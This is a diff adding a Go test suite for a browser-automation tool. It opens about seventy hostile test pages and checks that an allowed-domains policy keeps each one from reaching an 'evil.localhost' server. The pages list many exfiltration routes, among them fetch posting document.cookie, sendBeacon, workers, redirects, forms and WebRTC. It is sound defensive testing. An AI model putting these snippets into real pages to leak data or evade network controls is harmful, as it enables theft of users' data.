@@ -1,0 +1,344 @@
+package session_test
+
+import (
+	"fmt"
+	"maps"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/coder/websocket"
+	"github.com/stretchr/testify/require"
+
+	"github.com/skua-browser/skua/policy"
+)
+
+// An attack is a way in which a page tries to reach a host that it may not reach. The page is at good.localhost; the host has the attack's name,
+// so that the log of the servers tells which attacks got through, and the log of refusals which were tried.
+type attack struct {
+	name  string
+	page  string // EVIL is the origin of the host that is not allowed, HOST that without a scheme, GOOD the origin of the page
+	quiet bool   // what is refused is not told: the page says in its title that it has tried
+	blind bool   // a browser that we attached to does not let it be kept from the network, see docs/policy.md
+}
+
+// done is what a page does when it has tried.
+const done = `document.title='tried'`
+
+var attacks = []attack{
+	{name: "image", page: `<img src="EVIL/">`},
+	{name: "script", page: `<script src="EVIL/"></script>`},
+	{name: "stylesheet", page: `<link rel=stylesheet href="EVIL/">`},
+	{name: "import", page: `<style>@import "EVIL/";</style>`},
+	{name: "font", page: `<style>@font-face{font-family:f;src:url(EVIL/)} p{font-family:f}</style><p>x`},
+	{name: "background", page: `<p style="background:url(EVIL/)">x`},
+	{name: "frame", page: `<iframe src="EVIL/"></iframe>`},
+	{name: "object", page: `<object data="EVIL/"></object>`},
+	{name: "embed", page: `<embed src="EVIL/" type="text/html">`},
+	{name: "video", page: `<video src="EVIL/" preload=auto autoplay></video>`},
+	{name: "track", page: `<video crossorigin><track default src="EVIL/"></video>`},
+	{name: "preload", page: `<link rel=preload as=script href="EVIL/">`},
+	{name: "modulepreload", page: `<link rel=modulepreload href="EVIL/">`},
+	{name: "prefetch", page: `<link rel=prefetch href="EVIL/">`},
+	{name: "module", page: `<script type=module>import("EVIL/")</script>`},
+	{name: "fetch", page: `<script>fetch("EVIL/")</script>`},
+	{name: "fetch-no-cors", page: `<script>fetch("EVIL/",{mode:"no-cors",method:"POST",body:document.cookie})</script>`},
+	{name: "fetch-keepalive", page: `<script>fetch("EVIL/",{mode:"no-cors",keepalive:true})</script>`},
+	{name: "xhr", page: `<script>x=new XMLHttpRequest;x.open("GET","EVIL/");x.send()</script>`},
+	{name: "beacon", page: `<script>navigator.sendBeacon("EVIL/","secret")</script>`},
+	{name: "beacon-unload", page: `<script>addEventListener("pagehide",()=>navigator.sendBeacon("EVIL/","secret"));onload=()=>setTimeout(()=>location="GOOD/blank",0)</script>`},
+	{name: "keepalive-unload", page: `<script>addEventListener("pagehide",()=>fetch("EVIL/",{mode:"no-cors",keepalive:true}));onload=()=>setTimeout(()=>location="GOOD/blank",0)</script>`},
+	{name: "eventsource", page: `<script>new EventSource("EVIL/")</script>`},
+	{name: "websocket", page: `<script>w=new WebSocket("ws://HOST/");w.onerror=w.onopen=()=>` + done + `</script>`, quiet: true},
+	{name: "ping", page: `<a id=a href="#x" ping="EVIL/">x</a><script>onload=()=>a.click()</script>`},
+	{name: "csp-report", page: `<meta http-equiv=x><img src="GOOD/blocked.png">`},
+	{name: "link-header", page: `x`},
+	{name: "refresh-header", page: `x`},
+	{name: "meta-refresh", page: `<meta http-equiv=refresh content="0;url=EVIL/">`},
+	{name: "location", page: `<script>location="EVIL/"</script>`},
+	{name: "form-get", page: `<form id=f action="EVIL/"><input name=a value=b></form><script>f.submit()</script>`},
+	{name: "form-post", page: `<form id=f method=post action="EVIL/"><input name=a value=b></form><script>f.submit()</script>`},
+	{name: "form-blank", page: `<form id=f target=_blank action="EVIL/"><input name=a value=b></form><script>f.submit()</script>`},
+	{name: "popup", page: `<script>open("EVIL/")</script>`},
+	{name: "popup-later", page: `<script>w=open("about:blank");setTimeout(()=>w.location="EVIL/",20)</script>`},
+	{name: "popup-fetches", page: `<script>w=open("about:blank");w.fetch("EVIL/",{mode:"no-cors"})</script>`},
+	{name: "popup-noopener", page: `<script>open("EVIL/","","noopener")</script>`},
+	{name: "link-blank", page: `<a id=a target=_blank href="EVIL/">x</a><script>onload=()=>a.click()</script>`},
+	{name: "javascript-url", page: `<iframe src="javascript:fetch('EVIL/',{mode:'no-cors'})"></iframe>`},
+	{name: "data-frame", page: `<iframe src="data:text/html,<script>fetch('EVIL/',{mode:'no-cors'})</script>"></iframe>`},
+	{name: "srcdoc", page: `<iframe srcdoc="<img src='EVIL/'>"></iframe>`},
+	{name: "sandboxed", page: `<iframe sandbox="allow-scripts" srcdoc="<script>fetch('EVIL/',{mode:'no-cors'})</script>"></iframe>`},
+	{name: "blob-frame", page: `<script>f=document.createElement("iframe");f.src=URL.createObjectURL(new Blob(["<img src=EVIL/>"],{type:"text/html"}));document.documentElement.append(f)</script>`},
+	{name: "blob-page", page: `<script>location=URL.createObjectURL(new Blob(["<img src=EVIL/>"],{type:"text/html"}))</script>`},
+	{name: "early-frame", page: `<script>f=document.createElement("iframe");document.documentElement.append(f);f.contentWindow.fetch("EVIL/",{mode:"no-cors"})</script>`},
+	{name: "redirect", page: `<script>location="GOOD/to/EVIL/"</script>`},
+	{name: "redirect-image", page: `<img src="GOOD/to/EVIL/">`},
+	{name: "redirect-fetch", page: `<script>fetch("GOOD/to/EVIL/",{mode:"no-cors"})</script>`},
+	{name: "redirect-frame", page: `<iframe src="GOOD/to/EVIL/"></iframe>`},
+	{name: "redirect-twice", page: `<img src="GOOD/to/GOOD/to/EVIL/">`},
+	{name: "redirect-beacon", page: `<script>navigator.sendBeacon("GOOD/to/EVIL/")</script>`},
+	{name: "worker", page: `<script>new Worker("GOOD/js/fetch('EVIL/',{mode:'no-cors'})")</script>`},
+	{name: "worker-blob", page: `<script>new Worker(URL.createObjectURL(new Blob(["fetch('EVIL/',{mode:'no-cors'})"])))</script>`},
+	{name: "worker-import", page: `<script>new Worker("GOOD/js/importScripts('EVIL/')")</script>`},
+	{name: "worker-nested", page: `<script>new Worker("GOOD/js/new Worker('GOOD/js/fetch(\"EVIL/\",{mode:\"no-cors\"})')")</script>`},
+	{name: "worker-websocket", page: `<script>w=new Worker("GOOD/js/w=new WebSocket('ws://HOST/');w.onerror=w.onopen=()=>postMessage(1)");w.onmessage=()=>` + done + `</script>`, quiet: true},
+	{name: "shared-worker", page: `<script>new SharedWorker("GOOD/js/fetch('EVIL/',{mode:'no-cors'})")</script>`},
+	{name: "service-worker", page: `<script>navigator.serviceWorker.register("GOOD/js/fetch('EVIL/',{mode:'no-cors'})")</script>`},
+	{name: "service-worker-import", page: `<script>navigator.serviceWorker.register("GOOD/js/importScripts('EVIL/')")</script>`},
+	{name: "download-link", page: `<a id=a download href="EVIL/download">x</a><script>onload=()=>a.click()</script>`},
+	{name: "download", page: `<script>onload=()=>location="EVIL/download"</script>`},
+	{name: "svg", page: `<svg><image href="EVIL/"/></svg>`},
+	{name: "speculation", page: `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["EVIL/"]}],"prerender":[{"source":"list","urls":["EVIL/"]}]}</script><script>setTimeout(()=>` + done + `,500)</script>`, quiet: true, blind: true},
+	{name: "preconnect", page: `<link rel=preconnect href="http://TCP/"><script>setTimeout(()=>` + done + `,300)</script>`, quiet: true, blind: true},
+	{name: "webrtc", page: `<script>p=new RTCPeerConnection({iceServers:[{urls:"stun:STUN"},{urls:"turn:STUN",username:"u",credential:"c"}]});p.createDataChannel("d");p.onicegatheringstatechange=()=>p.iceGatheringState=="complete"&&(` + done + `);p.createOffer().then(o=>p.setLocalDescription(o))</script><script>if(!window.RTCPeerConnection)` + done + `</script>`, quiet: true},
+	{name: "webrtc-frame", page: `<script>f=document.createElement("iframe");document.documentElement.append(f);try{p=new f.contentWindow.RTCPeerConnection({iceServers:[{urls:"stun:STUN"}]});p.createDataChannel("d");p.onicegatheringstatechange=()=>p.iceGatheringState=="complete"&&(` + done + `);p.createOffer().then(o=>p.setLocalDescription(o))}catch{` + done + `}</script>`, quiet: true},
+	{name: "webtransport", page: `<script>try{w=new WebTransport("https://QUIC/");w.ready.then(()=>` + done + `,()=>` + done + `)}catch{` + done + `}</script>`, quiet: true},
+}
+
+// battlefield is where attacks are tried: the allowed server, and the one that is not, under the names of the attacks.
+type battlefield struct {
+	good, evil *httptest.Server
+	tcp        net.Listener              // counts connections that ask for nothing
+	stun, quic map[string]net.PacketConn // by attack
+
+	mu      sync.Mutex
+	reached map[string]int // how often, by attack
+}
+
+func newBattlefield(t testing.TB) *battlefield {
+	b := &battlefield{reached: map[string]int{}, stun: map[string]net.PacketConn{}, quic: map[string]net.PacketConn{}}
+	b.evil = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		name, _, _ := strings.Cut(r.Host, ".")
+		b.hit(name)
+		w.Header().Set("Access-Control-Allow-Origin", "*")
+		switch {
+		case r.Header.Get("Upgrade") != "":
+			if c, err := websocket.Accept(w, r, &websocket.AcceptOptions{InsecureSkipVerify: true}); err == nil {
+				_ = c.CloseNow()
+			}
+		case strings.HasSuffix(r.URL.Path, "/download"):
+			w.Header().Set("Content-Disposition", "attachment; filename=x.bin")
+		}
+	}))
+	b.evil.Start()
+	t.Cleanup(b.evil.Close)
+	b.good = httptest.NewServer(http.HandlerFunc(b.serveGood))
+	t.Cleanup(b.good.Close)
+	var err error
+	b.tcp, err = net.Listen("tcp", "127.0.0.1:0")
+	require.NoError(t, err)
+	t.Cleanup(func() { _ = b.tcp.Close() })
+	go func() {
+		for {
+			c, err := b.tcp.Accept()
+			if err != nil {
+				return
+			}
+			b.hit("preconnect")
+			_ = c.Close()
+		}
+	}()
+	for _, name := range []string{"webrtc", "webrtc-frame"} {
+		b.stun[name] = b.listen(t, name)
+	}
+	b.quic["webtransport"] = b.listen(t, "webtransport")
+	return b
+}
+
+// listen counts what comes over UDP.
+func (b *battlefield) listen(t testing.TB, name string) net.PacketConn {
+	c, err := net.ListenPacket("udp", "127.0.0.1:0")
+	require.NoError(t, err)
+	t.Cleanup(func() { _ = c.Close() })
+	go func() {
+		buf := make([]byte, 2048)
+		for {
+			if _, _, err := c.ReadFrom(buf); err != nil {
+				return
+			}
+			b.hit(name)
+		}
+	}()
+	return c
+}
+
+func (b *battlefield) hit(name string) {
+	b.mu.Lock()
+	defer b.mu.Unlock()
+	b.reached[name]++
+}
+
+func (b *battlefield) was(name string) bool {
+	b.mu.Lock()
+	defer b.mu.Unlock()
+	return b.reached[name] > 0
+}
+
+func (b *battlefield) names() []string {
+	b.mu.Lock()
+	defer b.mu.Unlock()
+	return slices.Sorted(maps.Keys(b.reached))
+}
+
+func portOf(t testing.TB, a net.Addr) string {
+	t.Helper()
+	_, port, err := net.SplitHostPort(a.String())
+	require.NoError(t, err)
+	return port
+}
+
+func (b *battlefield) goodOrigin() string {
+	return "http://good.localhost:" + b.good.URL[strings.LastIndex(b.good.URL, ":")+1:]
+}
+
+func (b *battlefield) host(name string) string {
+	return name + ".evil.localhost:" + b.evil.URL[strings.LastIndex(b.evil.URL, ":")+1:]
+}
+
+// fill puts addresses into an attack's page.
+func (b *battlefield) fill(a attack, text string) string {
+	r := []string{"EVIL", "http://" + b.host(a.name), "HOST", b.host(a.name), "GOOD", b.goodOrigin()}
+	if c := b.stun[a.name]; c != nil {
+		r = append(r, "STUN", c.LocalAddr().String())
+	}
+	if a.name == "preconnect" {
+		_, port, _ := strings.Cut(b.tcp.Addr().String(), ":")
+		r = append(r, "TCP", a.name+".evil.localhost:"+port)
+	}
+	if c := b.quic[a.name]; c != nil {
+		r = append(r, "QUIC", c.LocalAddr().String())
+	}
+	return strings.NewReplacer(r...).Replace(text)
+}
+
+func (b *battlefield) serveGood(w http.ResponseWriter, r *http.Request) {
+	path := strings.TrimPrefix(r.URL.EscapedPath(), "/")
+	switch {
+	case strings.HasPrefix(path, "to/"):
+		to := strings.TrimPrefix(r.URL.Path, "/to/")
+		if !strings.Contains(to, "://") {
+			to = strings.Replace(to, ":/", "://", 1)
+		}
+		w.Header().Set("Access-Control-Allow-Origin", "*")
+		w.Header().Set("Location", to)
+		w.WriteHeader(http.StatusTemporaryRedirect)
+	case strings.HasPrefix(path, "js/"):
+		w.Header().Set("Content-Type", "text/javascript")
+		w.Header().Set("Service-Worker-Allowed", "/")
+		_, _ = fmt.Fprint(w, strings.TrimPrefix(r.URL.Path, "/js/"))
+	case strings.HasPrefix(path, "attack/"):
+		for _, a := range attacks {
+			if a.name == strings.TrimPrefix(path, "attack/") {
+				switch a.name {
+				case "csp-report":
+					w.Header().Set("Content-Security-Policy", b.fill(a, "img-src 'none'; report-uri EVIL/"))
+				case "link-header":
+					w.Header().Set("Link", b.fill(a, "<EVIL/>; rel=preload; as=script"))
+				case "refresh-header":
+					w.Header().Set("Refresh", b.fill(a, "0;url=EVIL/"))
+				}
+				w.Header().Set("Content-Type", "text/html")
+				_, _ = fmt.Fprint(w, "<!doctype html><title>new</title><body>"+b.fill(a, a.page))
+			}
+		}
+	default:
+		w.Header().Set("Content-Type", "text/html")
+		_, _ = fmt.Fprint(w, "<!doctype html><title>blank</title>")
+	}
+}
+
+// refusals are the hosts that were refused in the client's session.
+func refusals(c *client) map[string]int {
+	c.t.Helper()
+	log := decode[struct{ Refused []policy.Refusal }](c.t, c.do("policy", "log").Result.Data)
+	found := map[string]int{}
+	for _, r := range log.Refused {
+		found[r.Subject] += r.Count
+	}
+	return found
+}
+
+// try opens the pages of the attacks one after the other in a caller's session, and calls after for each.
+func (b *battlefield) run(c *client, args []string, skip func(attack) bool, after func(attack)) {
+	c.t.Helper()
+	c.do(append(slices.Clone(args), "open", b.goodOrigin()+"/")...)
+	for _, a := range attacks {
+		if skip != nil && skip(a) {
+			continue
+		}
+		_ = c.try("open", b.goodOrigin()+"/attack/"+a.name) // a page that goes elsewhere at once may not be seen to arrive
+		after(a)
+		for _, tab := range c.tabs() {
+			if id, _, _ := strings.Cut(tab, " "); !strings.HasSuffix(tab, " active") {
+				_ = c.try("tab", "close", id)
+			}
+		}
+	}
+}
+
+func TestHostilePagesReachTheirHostsWithoutRules(t *testing.T) {
+	b := newBattlefield(t)
+	c := newClient(t)
+	var missed []string
+	b.run(c, nil, nil, func(a attack) {
+		until := time.Now().Add(20 * time.Second)
+		for !b.was(a.name) && time.Now().Before(until) {
+			time.Sleep(5 * time.Millisecond)
+		}
+		if !b.was(a.name) {
+			missed = append(missed, a.name)
+		}
+	})
+	require.Empty(t, missed, "attacks that do not work at all prove nothing")
+}
+
+// hold runs the attacks under rules, and wants none to reach its host. Told: each is to be seen to be tried, by what was refused.
+func (b *battlefield) hold(c *client, args []string, skip func(attack) bool, told bool) {
+	var untried []string
+	b.run(c, args, skip, func(a attack) {
+		tried := func() bool {
+			if !told {
+				return true
+			}
+			if a.quiet {
+				return strings.Contains(c.do("get", "title").Result.Text, "tried")
+			}
+			return refusals(c)[a.name+".evil.localhost"] > 0
+		}
+		until := time.Now().Add(20 * time.Second)
+		for !tried() && !b.was(a.name) {
+			if time.Now().After(until) {
+				untried = append(untried, a.name)
+				break
+			}
+			time.Sleep(5 * time.Millisecond)
+		}
+	})
+	c.do("open", b.goodOrigin()+"/")
+	require.Empty(c.t, b.names(), "these reached their host")
+	require.Empty(c.t, untried, "these were not seen to be tried")
+}
+
+const onlyGood = "good.localhost"
+
+func TestHostilePagesReachNothingInALaunchedBrowser(t *testing.T) {
+	b := newBattlefield(t)
+	b.hold(newClient(t), []string{"--allowed-domains", onlyGood}, nil, true)
+}
+
+func TestHostilePagesReachNothingInAnAttachedBrowser(t *testing.T) {
+	b := newBattlefield(t)
+	theirs := startTheirs(t, t.TempDir())
+	b.hold(newClient(t), []string{"--cdp", theirs.port, "--allowed-domains", onlyGood}, func(a attack) bool { return a.blind }, false)
+}
+
+func TestHostilePagesReachNothingInAProfile(t *testing.T) {
+	b := newBattlefield(t)
+	s := newService(t, t.TempDir())
+	b.hold(s.task(), []string{"--allowed-domains", onlyGood}, func(a attack) bool { return a.blind }, false)
+}
